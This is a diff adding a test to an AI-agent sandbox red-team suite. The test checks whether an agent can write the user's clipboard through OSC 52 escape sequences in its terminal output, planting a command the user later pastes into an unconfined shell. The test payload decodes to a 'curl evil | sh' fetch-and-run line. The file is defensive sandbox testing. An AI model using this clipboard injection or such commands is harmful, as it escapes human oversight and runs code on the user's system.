@@ -355,3 +355,40 @@ TEST_CASE("redteam sandbox: settings keys from the agent's profile layer are esc
   CHECK_MESSAGE(!has_control(d.out + d.err), "ws profile diff carries the agent's controls");
   p.ws("profile reset claude");
 }
+
+// HOLE: on a terminal, the agent's output reaches the person's terminal unfiltered, OSC 52
+// included: `printf '\e]52;c;<base64>\a'` sets the person's clipboard (kitty, WezTerm,
+// Alacritty, foot, Windows Terminal; tmux passes it on by default) to a command of the agent's
+// choosing, which the person later pastes into an unconfined shell. TIOCSTI is refused; this
+// is the same injection through the output.
+TEST_CASE("redteam sandbox: the agent cannot write the person's clipboard through its terminal "
+          "output (OSC 52)" *
+          doctest::may_fail()) {
+  Person p("");
+  // The person's terminal: a pty whose master this harness reads, as a terminal emulator
+  // would; it reports whether the clipboard sequence arrived.
+  const std::string terminal = "import os, pty, sys\n"
+                               "pid, fd = pty.fork()\n"
+                               "if pid == 0:\n"
+                               "    os.execvp(sys.argv[1], sys.argv[1:])\n"
+                               "out = b''\n"
+                               "while True:\n"
+                               "    try:\n"
+                               "        b = os.read(fd, 4096)\n"
+                               "    except OSError:\n"
+                               "        break\n"
+                               "    if not b:\n"
+                               "        break\n"
+                               "    out += b\n"
+                               "os.waitpid(pid, 0)\n"
+                               "print('hello=' + ('yes' if b'hello' in out else 'no'))\n"
+                               "print('osc52=' + ('yes' if b'\\x1b]52;' in out else 'no'))\n";
+  Run r = sh(p.as(py() + " -c " + q(terminal) + " " +
+                  p.ws_line("run --network=off -- sh -c " +
+                            q("printf '\\033]52;c;Y3VybCBldmlsIHwgc2gK\\007hello\\n'"))),
+             p.project());
+  INFO("ws run under a terminal: " << r.status << "\n" << r.out << r.err);
+  REQUIRE(field(r.out, "hello") == "yes");
+  CHECK_MESSAGE(field(r.out, "osc52") == "no",
+                "the agent's OSC 52 reached the person's terminal (clipboard write)");
+}
